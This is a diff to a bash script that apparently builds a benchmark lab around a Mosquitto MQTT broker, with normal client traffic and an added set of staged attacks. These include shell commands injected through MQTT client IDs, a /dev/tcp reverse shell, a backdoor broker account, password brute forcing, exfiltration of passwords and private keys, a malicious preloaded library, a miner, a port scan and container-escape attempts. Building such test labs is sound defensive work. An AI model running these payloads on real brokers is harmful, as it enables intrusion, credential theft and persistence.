@@ -8,8 +8,12 @@
 # administrator has the report made.
 
 # shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read variables of this file, and set others
+# shellcheck source=bench/dataset/databases.bash
+. "${here:?}/databases.bash"
+
 set=test containers=(mosquitto) port=1883 data_directory=/var/lib/mosquitto
 configuration_file=/etc/mosquitto/conf.d/house.conf
+# shellcheck disable=SC2016 # a topic
 health=(/usr/bin/mosquitto_sub -h 127.0.0.1 -u admin -P dragon4 -t '$SYS/broker/uptime' -C 1 -W 5)
 image_packages=(mosquitto mosquitto-clients logrotate bash coreutils findutils grep sed gzip dash base-files libc-bin
 	netbase tzdata hostname procps)
@@ -75,6 +79,7 @@ outside_start() {
 	shift
 	nsenter -t "$peers_network_pid" -n env -i PATH=/usr/sbin:/usr/bin LANG=C.UTF-8 HOME=/mnt \
 		chroot "$images/mosquitto" "$@" </dev/null >"$stage/peer-$name.log" 2>&1 &
+	# shellcheck disable=SC2004 # an associative array
 	peer_pid[$name]=$!
 	children[$!]=1
 }
@@ -157,9 +162,13 @@ request() {
 	14) publish "device$n" wrong -t x -m x </dev/null ;;
 	15) publish "device$n" letmein -V 5 -t "house/device$((n % 20 + 1))/secret" -m "not allowed" -q 1 </dev/null ;;
 	16) several_devices "$((n % 6 + 3))" ;;
-	# shellcheck disable=SC2016 # topics
-	17) subscribe admin dragon4 -t '$SYS/#' -W 1 -F '%t %p' ;;
+	17) figures_read ;;
 	esac >/dev/null
+}
+
+# shellcheck disable=SC2016 # a topic
+figures_read() {
+	subscribe admin dragon4 -t '$SYS/#' -W 1 -F '%t %p'
 }
 
 # readings N: lines, with pauses.
@@ -224,6 +233,7 @@ administer() {
 	session mosquitto /usr/local/sbin/clients-report
 	container_signal mosquitto USR1
 	sleep 0.5
+	# shellcheck disable=SC2016 # the container's shell
 	session mosquitto /bin/sh -c 'mkdir -p /var/backups/mosquitto && gzip -c /var/lib/mosquitto/mosquitto.db \
 		>"/var/backups/mosquitto/$(date +%s).db.gz" && cp -p /etc/mosquitto/passwd /etc/mosquitto/acl /var/backups/mosquitto/'
 	session mosquitto /usr/bin/mosquitto_passwd -b /etc/mosquitto/passwd "device$(between 15 20)" letmein
@@ -345,4 +355,167 @@ rare_revoked() {
 	wait $! || true
 	session mosquitto /usr/bin/mosquitto_passwd -b /etc/mosquitto/passwd device14 letmein
 	reload_service
+}
+
+# ---- attacks ----
+
+# client_named COMMANDS: a client whose name is a command, and then the report, which root has made.
+client_named() {
+	outside mosquitto_pub -h "$own_address" -u device1 -P letmein -i "\$($1)" -t house/device1/x -m x -q 1 </dev/null
+	session mosquitto /usr/local/sbin/clients-report
+}
+
+attack_client_name() {
+	harm exec /usr/bin/id
+	harm read /etc/shadow
+	harm write /tmp/out
+	client_named 'id >/tmp/out; cat /etc/shadow >>/tmp/out'
+	session mosquitto /bin/grep -c uid=0 /tmp/out
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	harm read /etc/mosquitto/passwd
+	thief_shell 'id; cat /etc/mosquitto/passwd; exit'
+	client_named "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1 &'"
+	thief_got uid=0
+}
+
+# A user of the attacker's, who may read and write everything.
+attack_persistence() {
+	harm write /etc/mosquitto/passwd
+	harm write /etc/mosquitto/acl
+	client_named 'mosquitto_passwd -b /etc/mosquitto/passwd ghost open; echo user ghost >>/etc/mosquitto/acl; '\
+'echo topic readwrite \# >>/etc/mosquitto/acl; pkill -HUP -x mosquitto'
+	sleep 1
+	# shellcheck disable=SC2016 # a topic
+	subscribe ghost open -t '$SYS/broker/uptime' -t 'house/#' -C 1 -W 10
+}
+
+attack_brute_force() {
+	local word
+	harm call accept
+	for word in {monkey,dragon}{1..9}; do
+		# shellcheck disable=SC2016 # a topic
+		! subscribe admin "$word" -t '$SYS/broker/version' -C 1 -W 3 | grep -c mosquitto || return 0
+	done
+	return 1
+}
+
+# server_shell COMMANDS: code inside the broker, as after an overflow, starts a shell.
+server_shell() {
+	inject mosquitto /usr/sbin/mosquitto "print (int) system(\"${1//$'\n'/ }\")"
+}
+
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm write /tmp/out
+	server_shell 'id >/tmp/out; cat /etc/passwd >>/tmp/out'
+	session mosquitto /bin/grep -c uid=105 /tmp/out
+}
+
+# Code inside the broker sends the passwords away; no program is started.
+attack_code_connect() {
+	harm read /etc/mosquitto/passwd
+	harm connect "$peer_address:4444"
+	thief_begin
+	code_steal mosquitto /usr/sbin/mosquitto /etc/mosquitto/passwd
+	thief_got '^admin:'
+}
+
+# A library of the attacker's, which the broker maps.
+attack_library() {
+	harm mapx /tmp/libauth.so
+	harm read /etc/mosquitto/certs/server.key
+	harm connect "$peer_address:4444"
+	thief_begin
+	preload_library "$(image_path mosquitto /tmp/libauth.so)" /etc/mosquitto/certs/server.key
+	inject mosquitto /usr/sbin/mosquitto 'print ((void *(*)(const char *, int)) dlopen)("/tmp/libauth.so", 2)'
+	thief_got 'PRIVATE KEY'
+}
+
+attack_miner() {
+	mining_begin /var/tmp/.mqtt
+	server_shell "$mining_command"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	server_shell "bash -c 'for p in 21 22 25 53 80 443 1883 1884 3306 5432 6379 8883; do
+		(exec 3<>/dev/tcp/$peer_address/\$p) && echo open \$p; done >/tmp/ports 2>/dev/null'"
+	session mosquitto /bin/grep -c 'open 1884' /tmp/ports
+}
+
+# Ways out of the container, each tried by code inside the broker.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call ptrace
+	code_inside mosquitto /usr/sbin/mosquitto 'print (int) mount("none", "/mnt", "tmpfs", 0, 0)' \
+		'print (int) unshare(0x10000000)' 'print (int) setns(0, 0)' 'print (long) ptrace(16, 2, 0, 0)' \
+		'print (int) open("/proc/sys/kernel/core_pattern", 1)' 'print (int) open("/proc/1/environ", 0)' |
+		grep -c = && alive "${container_pid[mosquitto]}"
+}
+
+# The engine's socket in the wrong hands.
+attack_stolen_engine() {
+	harm read /etc/shadow
+	harm read /etc/mosquitto/certs/server.key
+	harm read /var/lib/mosquitto/mosquitto.db
+	session mosquitto /bin/sh -c 'cat /etc/shadow /etc/mosquitto/certs/server.key; kill -USR1 1; sleep 1;
+		gzip -c /var/lib/mosquitto/mosquitto.db | wc -c' | grep -c 'PRIVATE KEY'
+}
+
+# ---- adaptive: by messages, files and peers of every day ----
+
+# A forgotten account hears everything, and gets all that is retained.
+adaptive_eavesdropping() {
+	harm call write
+	subscribe installer 12345 -t '#' -v -W 6 >"$stage/heard" &
+	sleep 1
+	seq 60 | publish device5 letmein -t house/device5/readings -l -q 1
+	publish app secret -t alarm/floor1 -m smoke -q 1 </dev/null
+	wait $! || true
+	[ "$(wc -l <"$stage/heard")" -ge 60 ]
+}
+
+# What devices say goes to the partner, as reports, over the broker's own bridge.
+adaptive_bridge_exfiltration() {
+	harm call write
+	partner mosquitto_sub -t 'report/#' -W 8 >"$stage/heard" &
+	sleep 1
+	{
+		subscribe app secret -t 'house/#' -v -W 2
+		seq -f 'secret plan %g' 200
+	} | publish app secret -t report/copy -l -q 1
+	wait $! || true
+	grep -c 'secret plan 200' "$stage/heard"
+}
+
+# Every retained state becomes another, and the broker saves it.
+adaptive_states_forged() {
+	local i
+	harm write '/var/lib/mosquitto/mosquitto.db.new'
+	for i in {1..20}; do
+		outside mosquitto_pub -h "$own_address" -u admin -P dragon4 -t "house/by-client/device$i/state" -r \
+			-m forged </dev/null
+	done
+	sleep 16 # until it saves by itself
+	subscribe app secret -t 'house/by-client/#' -C 20 -W 5 | grep -c forged | grep -x 20
+}
+
+# Messages for clients that are away fill memory and disk.
+adaptive_flood() {
+	local i
+	harm call write
+	for i in 1 2 3 4 5 6; do
+		subscribe app secret -i "sink$i" -c -q 1 -t 'house/device1/#' -E
+		seq -f "%0200g" 600 | publish device1 letmein -t house/device1/log -l -q 1
+	done
+	subscribe app secret -i sink1 -c -q 1 -t 'house/device1/#' -C 100 -W 10 | tail -n 1
 }
